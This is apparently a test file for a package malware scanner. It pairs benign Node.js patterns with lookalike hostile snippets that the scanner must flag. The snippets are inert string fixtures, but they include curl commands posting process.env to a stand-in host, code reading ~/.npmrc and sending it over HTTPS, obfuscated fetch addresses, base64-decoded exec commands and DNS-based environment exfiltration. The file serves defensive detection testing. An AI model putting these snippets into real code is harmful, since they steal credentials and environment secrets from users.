/** What real packages do for good reasons (the third set of docs/accuracy.md), each with the act it looks like. Inert. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { scanOf, threatsOf } from './testing/scan-of.ts';

interface Pair {
  readonly rule: string;
  readonly left: string;
  readonly found: readonly string[];
}

const cp = "const cp = require('child_process');";
/** What makes the scanner read the tree. */
const decodes = 'const decoded = atob(given);';
const address = 'https://c.example/a';

const pairs: Readonly<Record<string, Pair>> = {
  'the environment that a program is started with': {
    rule: 'malware/exfiltrate-environment',
    left: `${cp} cp.spawn('wget', [url], { env: process.env, stdio: 'inherit' }); cp.spawn('curl', [url], { env: { ...process.env, A: '1' } });`,
    found: [
      `${cp} cp.spawn('curl', ['-d', JSON.stringify(process.env), url], { env: process.env });`,
      `${cp} cp.exec('curl -d "$ALL" ${address}', { env: { ALL: JSON.stringify(process.env) } });`,
      `${cp} cp.exec('curl -d "$ALL" ${address}', { env: { ...process.env, ALL: JSON.stringify(process.env) } });`,
      `${cp} cp.exec('curl -d @- ${address}', { input: JSON.stringify(process.env), env: process.env });`,
    ],
  },
  'a list that is handed to code which was made before': {
    rule: 'malware/data-to-code',
    left: `new Function('list', 'exports', code())(require('./list.json'), exports);`,
    found: [
      `new Function(require('./list.json').code)();`,
      `new Function('text', 'eval(text)')(require('./list.json').code);`,
      `const make = Function; make('list', require('./list.json')[0])();`,
    ],
  },
  'an address of the same host, or of the one it is part of': {
    rule: 'malware/hidden-address',
    left: `${decodes} const api = 'https://api.c.example'; fetch(api.replace('api.c.example', 'c.example') + '/tree');`,
    found: [
      `${decodes} fetch('https://cXX.example/a'.replace('XX', ''));`,
      `${decodes} fetch('https://good.example/a'.replace('good', 'bad'));`,
      `${decodes} fetch('xttps://c.example/a'.replace('x', 'h'));`,
    ],
  },
  'a text that a function only quotes': {
    rule: 'malware/decoded-command',
    left: `${cp} const escape = (s) => s.replace('"', '#'); function open(to) { cp.exec('xdg-open ' + escape(to)); } open('${address}');`,
    found: [
      `${cp} const plain = (s) => s.replace('#', 'o'); cp.exec(plain('ech# this is not what stood there'));`,
      `${cp} cp.exec(Buffer.from('ZWNobyBoZWxsbyB3b3JsZA==', 'base64').toString());`,
    ],
  },
  'what a callback is bound to': {
    rule: 'malware/exfiltrate-credentials',
    left: `const https = require('https'); const fs = require('fs');
      function C() { this.file = fs.readFileSync(home + '/.npmrc'); https.request(url, function (answer) { show(answer); }.bind(this)); }`,
    found: [
      `const https = require('https'); const fs = require('fs');
      function C() { this.file = fs.readFileSync(home + '/.npmrc'); const r = https.request(url); r.end(this.file); }`,
      `const https = require('https'); const fs = require('fs'); const file = fs.readFileSync(home + '/.npmrc');
      (function (data) { https.request(url).end(data); }).bind(null, file)();`,
    ],
  },
};

for (const [what, { rule, left, found }] of Object.entries(pairs)) {
  test(`${what}: no ${rule}`, () => assert.ok(!threatsOf(scanOf({ 'index.js': left })).includes(rule)));
  for (const code of found)
    test(`${rule} is told of ${code.slice(0, 120)}`, () =>
      assert.ok(threatsOf(scanOf({ 'index.js': code, 'list.json': '["a b"]' })).includes(rule)));
}

/** Too large to be parsed: its words alone are looked at. */
const large = (code: string): string => `${code}\n// ${'x'.repeat(90)}\n`.padEnd(500_000, 'y ');
const sends = "const dns = require('dns'); dns.resolve(it);";
const near = 'malware/environment-near-network';
for (const code of [
  `import p from 'node:process'; show(p.platform, p.env.CI); ${sends}`,
  `const p$1 = require('process'); show(p$1.argv); ${sends}`,
  `const color = 'NO_COLOR' in process.env || !('CI' in process.env); ${sends}`,
])
  test(`a large file that asks for single variables: ${code.slice(0, 70)}`, () =>
    assert.ok(!threatsOf(scanOf({ 'index.js': large(code) })).includes(near)));
for (const code of [
  `import p from 'node:process'; const it = JSON.stringify(p.env); ${sends}`,
  `import p from 'node:process'; const q = p; ${sends}`,
  `import * as p from 'process'; const { env } = p; ${sends}`,
  `import { env } from 'process'; ${sends}`,
  `const p$1 = require('process'); const it = p$1['env']; ${sends}`,
  `for (const k in process.env) it += k; ${sends}`,
])
  test(`a large file that takes all of them is told of: ${code.slice(0, 70)}`, () =>
    assert.ok(threatsOf(scanOf({ 'index.js': large(code) })).includes(near)));
